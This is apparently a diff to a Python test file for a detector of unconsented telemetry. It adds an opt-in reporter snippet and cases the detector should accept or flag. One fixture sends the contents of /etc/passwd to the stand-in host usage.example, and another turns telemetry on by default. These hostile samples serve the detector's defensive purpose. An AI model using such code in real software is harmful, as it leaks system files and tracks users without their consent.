@@ -162,10 +162,31 @@ def report():
 ASKED = "if os.environ.get('X_TELEMETRY') == '1':\n    threading.Thread(target=report).start()"
 
 
+GATED = """
+def _enabled():
+    return os.environ.get('X_TELEMETRY', '0') == '1' and not os.environ.get('DO_NOT_TRACK')
+
+
+def report(event):
+    if not _enabled():
+        return
+    request = urllib.request.Request("https://usage.example/v1", json.dumps({"event": event, "version": "1"}).encode())
+
+    def go():
+        urllib.request.urlopen(request, timeout=2)
+    threading.Thread(target=go, daemon=True).start()
+
+
+"""
+
+
 @pytest.mark.parametrize(
     ("code", "expected"),
     [
         (PING.replace("BODY", "") + ASKED, False),
+        (GATED + "report('load')\n", False),
+        (GATED + "report('load')\nreport(open('/etc/passwd').read())\n", True),
+        (GATED.replace("== '1'", "!= '0'") + "report('load')\n", True),
         (PING.replace("BODY", "") + ASKED.replace("') == '1'", "', '1') == '1'"), True),
         (PING.replace("BODY", "") + ASKED.replace("== '1'", "!= '0'"), True),
         (PING.replace("BODY", "") + "report()", True),
